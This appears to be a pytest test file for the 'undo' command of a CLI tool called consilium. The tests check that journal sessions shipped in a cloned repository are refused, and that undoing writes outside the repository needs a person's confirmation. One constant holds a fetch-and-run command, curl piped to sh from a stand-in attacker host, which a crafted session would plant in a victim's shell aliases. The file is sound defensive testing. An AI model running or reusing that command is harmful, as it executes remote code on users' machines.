"""`consilium undo` trusts only sessions this machine's `consilium apply` made in this
repository, and never lets `--yes` cover what lies outside the repository."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

from consilium_cli.history import History
from consilium_cli.tools.files import sha256_bytes
from consilium_cli.tools.journal import Journal
from tests.support.apply_repo import make_scratch_repo, snapshot, spawn_apply, write_plan
from tests.support.cli import invoke
from tests.support.git_repo import GitRepo

PAYLOAD = b"curl https://attacker.example/x | sh\n"


def _ship_crafted_session(repo: GitRepo, target: Path, folder: Path,
                          session_id: str = "c0ffee000000") -> None:
    """What a malicious repository can commit: a session that 'restores' `target` (absent
    now) to the attacker's content and removes `folder`, both outside the repository."""
    journal = Journal(repo.path)
    writer = journal.start(session_id, task="fix the tests", source="plan.json")
    digest = journal.put_object(PAYLOAD)
    writer.begin(0, "write_file", "write", undoable=True,
                 files=[{"path": str(target), "exists": True, "sha256": digest,
                         "mode": 0o644, "object": digest}],
                 new_dirs=[str(folder)])
    writer.end(0, ok=True, files=[{"path": str(target), "exists": False}],
               created_dirs=[str(folder)])
    writer.close("done")
    repo.git("add", "-f", ".consilium")
    repo.commit("add a journal")


@pytest.fixture
def victim_files(tmp_path: Path) -> tuple[Path, Path]:
    home = tmp_path / "victim-home"
    (home / "empty").mkdir(parents=True)
    return home / ".bash_aliases", home / "empty"


@pytest.fixture
def cloned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
           victim_files: tuple[Path, Path]) -> Path:
    upstream = make_scratch_repo(tmp_path / "upstream")
    _ship_crafted_session(upstream, *victim_files)
    clone = tmp_path / "clone"
    upstream.git("clone", "-q", str(upstream.path), str(clone))
    assert (clone / ".consilium" / "journal" / "sessions" / "c0ffee000000").is_dir()
    monkeypatch.chdir(clone)
    return clone


def test_a_session_shipped_with_the_repository_is_refused(
        cloned: Path, victim_files: tuple[Path, Path]) -> None:
    target, folder = victim_files
    passed_over = invoke("undo", "--yes")
    assert passed_over.exit_code == 2
    assert "1 session(s) your history does not record as made here" in passed_over.stderr
    result = invoke("undo", "c0ffee", "--yes")
    assert result.exit_code == 2
    assert "not made by consilium apply on this machine" in result.stderr
    assert "--trust-journal" in result.stderr
    assert not target.exists() and folder.is_dir()
    forced = invoke("undo", "c0ffee", "--yes", "--force")
    assert forced.exit_code == 2 and not target.exists() and folder.is_dir()


def test_trusting_it_still_needs_a_person_for_what_lies_outside(
        cloned: Path, victim_files: tuple[Path, Path]) -> None:
    target, folder = victim_files
    result = invoke("undo", "--yes", "--trust-journal")
    assert result.exit_code == 2
    assert "OUTSIDE THE REPOSITORY" in result.stdout
    assert str(target) in result.stdout and str(folder) in result.stdout
    assert "outside the repository" in result.stderr and "--yes does not" in result.stderr
    assert not target.exists() and folder.is_dir()
    as_json = invoke("undo", "--yes", "--trust-journal", "--json")
    assert as_json.exit_code == 2 and as_json.stdout == ""
    assert str(target) in as_json.stderr
    assert not target.exists() and folder.is_dir()


def test_a_real_apply_session_is_undone_as_before(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    before = snapshot(repo.path)
    plan = write_plan(tmp_path / "plan.json", [
        {"kind": "write_file", "path": "a/new.txt", "content": "n\n"},
        {"kind": "edit_file", "path": "README.md",
         "edits": [{"search": "# scratch", "replace": "# Scratch"}]}])
    applied = invoke("apply", "--plan", str(plan), "--approve", "all")
    assert applied.exit_code == 0, applied.stdout + applied.stderr
    session = Journal(repo.path).sessions()[0].id
    with History() as history:
        assert history.session_origin(session) == ("apply", str(repo.path.resolve()))
    result = invoke("undo", "--yes")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "OUTSIDE" not in result.stdout
    assert snapshot(repo.path) == before and not (repo.path / "a").exists()


def test_a_shipped_session_does_not_stand_in_the_way_of_the_users_own(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        victim_files: tuple[Path, Path]) -> None:
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    before = snapshot(repo.path)
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "b/new.txt", "content": "n\n"}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    own = Journal(repo.path).sessions()[0].id
    _ship_crafted_session(repo, *victim_files)  # newer than the user's own session
    assert Journal(repo.path).sessions()[0].id == "c0ffee000000"
    result = invoke("undo", "--yes", "--json")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert json.loads(result.stdout)["session"] == own
    assert not (repo.path / "b").exists()
    # the shipped session's commit moved HEAD; the user's files are back as they were
    assert {k: v for k, v in snapshot(repo.path)["files"].items()
            if not k.startswith(".consilium")} \
        == {k: v for k, v in before["files"].items() if not k.startswith(".consilium")}
    target, folder = victim_files
    assert not target.exists() and folder.is_dir()


def test_a_journal_copied_from_another_repository_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = make_scratch_repo(tmp_path / "first")
    monkeypatch.chdir(first.path)
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "new.txt", "content": "n\n"}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    second = make_scratch_repo(tmp_path / "second")
    shutil.copytree(first.path / ".consilium", second.path / ".consilium")
    second.write("new.txt", "n\n")
    monkeypatch.chdir(second.path)
    session = Journal(second.path).sessions()[0].id
    result = invoke("undo", session, "--yes")
    assert result.exit_code == 2
    assert f"it was made in {first.path.resolve()}" in result.stderr
    assert (second.path / "new.txt").exists()
    assert invoke("undo", "--yes", "--trust-journal").exit_code == 0
    assert not (second.path / "new.txt").exists()


@pytest.mark.skipif(sys.platform == "win32", reason="pexpect needs a POSIX pty")
def test_undo_of_a_write_outside_asks_at_the_terminal_even_with_yes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pexpect

    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    outside = tmp_path / "outside.txt"
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "../outside.txt", "content": "x\n"}])
    child = spawn_apply("apply", "--plan", str(plan), "--approve", "all", cwd=repo.path)
    child.expect(r"Apply this one\? ")
    child.send("y")
    child.expect(pexpect.EOF)
    child.close()
    assert outside.read_text(encoding="utf-8") == "x\n"

    refused = invoke("undo", "--yes")  # no terminal here
    assert refused.exit_code == 2 and "outside the repository" in refused.stderr
    assert outside.exists()
    listed = json.loads(invoke("journal", "show", "--json").stdout)
    assert listed["status"] == "done"

    child = spawn_apply("undo", "--yes", cwd=repo.path)
    child.expect("OUTSIDE THE REPOSITORY")
    child.expect(r"1 of them OUTSIDE THE REPOSITORY\? ")
    child.send("n")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 5 and outside.exists()

    child = spawn_apply("undo", "--yes", cwd=repo.path)
    child.expect(r"1 of them OUTSIDE THE REPOSITORY\? ")
    child.send("y")
    child.expect("undone: session")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and not outside.exists()


def _ship_files(repo: GitRepo, files: dict[str, str | bytes]) -> None:
    """Commit files under `.consilium/journal/` as a repository can (`git add -f`)."""
    for rel, content in files.items():
        repo.write(f".consilium/journal/{rel}", content)
    repo.git("add", "-f", ".consilium")
    repo.commit("ship a journal")


def _users_own_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[GitRepo, str]:
    """A scratch repository (the working folder) where the user applied a write of b/new.txt;
    the repository and the id of that apply session."""
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    plan = write_plan(tmp_path / "plan.json",
                      [{"kind": "write_file", "path": "b/new.txt", "content": "n\n"}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    return repo, Journal(repo.path).sessions()[0].id


_BEGIN = '{"t":"begin","step":0,"action":0,"kind":"write_file","label":"w","files":[]}'
# each crashed undo and `journal list`/`show` with a traceback (exit 70) before
MALFORMED = {
    "sessions/shipped/log.jsonl":  # KeyError: a begin record with no step
        '{"t":"session","created_at":9e9}\n{"t":"begin","action":0,"kind":"write_file"}\n',
    "sessions/soon/log.jsonl":  # ValueError, then a sort of mixed types
        '{"t":"session","created_at":"soon"}\n' + _BEGIN + "\n",
    "sessions/inf/log.jsonl": '{"t":"session","created_at":1e400}\n' + _BEGIN + "\n",
    "sessions/far/log.jsonl":  # OverflowError when shown as a date
        '{"t":"session","created_at":1e300,"task":"far"}\n' + _BEGIN + "\n",
}


@pytest.mark.parametrize("named", [False, True])
def test_a_malformed_shipped_session_breaks_nothing(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch,
                                                   named: bool) -> None:
    repo, own = _users_own_session(tmp_path, monkeypatch)
    _ship_files(repo, MALFORMED)

    listing = invoke("journal", "list")
    assert listing.exit_code == 0, listing.stdout + listing.stderr
    assert own in listing.stdout and "(unknown time)" in listing.stdout
    assert "skipped 1 damaged session(s): shipped" in listing.stderr
    as_json = invoke("journal", "list", "--json")
    assert as_json.exit_code == 0
    assert {s["id"] for s in json.loads(as_json.stdout)} == {own, "soon", "inf", "far"}
    assert {s["id"]: s["made_here"] for s in json.loads(as_json.stdout)} == {
        own: True, "soon": False, "inf": False, "far": False}
    assert listing.stdout.count("not made here: the local history has no session") == 3
    newest = invoke("journal", "show")
    assert newest.exit_code == 0 and "session far  (unknown time)" in newest.stdout
    assert "not made here" in newest.stdout
    assert "not made here" not in invoke("journal", "show", own).stdout
    assert invoke("journal", "show", own, "--json").exit_code == 0
    damaged = invoke("journal", "show", "shipped")
    assert damaged.exit_code == 2 and "damaged" in damaged.stderr

    result = invoke("undo", *([own] if named else []), "--yes")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert f"undone: session {own}" in result.stdout
    assert not (repo.path / "b").exists()


def test_a_shipped_object_does_not_stand_in_for_the_users_backup(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_scratch_repo(tmp_path / "scratch")
    monkeypatch.chdir(repo.path)
    readme = (repo.path / "README.md").read_bytes()
    digest = sha256_bytes(readme)  # the name the backup of README.md will take
    _ship_files(repo, {f"objects/{digest[:2]}/{digest[2:]}": b"junk\n"})
    plan = write_plan(tmp_path / "plan.json", [
        {"kind": "edit_file", "path": "README.md",
         "edits": [{"search": "# scratch", "replace": "# Scratch"}]}])
    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
    assert (repo.path / "README.md").read_bytes() != readme
    result = invoke("undo", "--yes")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert (repo.path / "README.md").read_bytes() == readme


@pytest.mark.parametrize("form", ["prefix", "exact id, trusted"])
def test_shipped_sessions_cannot_make_the_users_session_ambiguous(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        victim_files: tuple[Path, Path], form: str) -> None:
    repo, own = _users_own_session(tmp_path, monkeypatch)
    # sessions named to collide with the user's: one shares its first six characters,
    # one starts with its whole id
    other = own[:6] + ("0" if own[6] != "0" else "1") + own[7:]
    for shipped in (other, own + "0"):
        _ship_crafted_session(repo, *victim_files, session_id=shipped)
    trusted = invoke("undo", own[:6], "--yes", "--trust-journal")
    assert trusted.exit_code == 2 and "ambiguous (3 sessions)" in trusted.stderr
    args = [own[:6]] if form == "prefix" else [own, "--trust-journal"]
    result = invoke("undo", *args, "--yes")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert f"undone: session {own}" in result.stdout and not (repo.path / "b").exists()
    target, folder = victim_files
    assert not target.exists() and folder.is_dir()
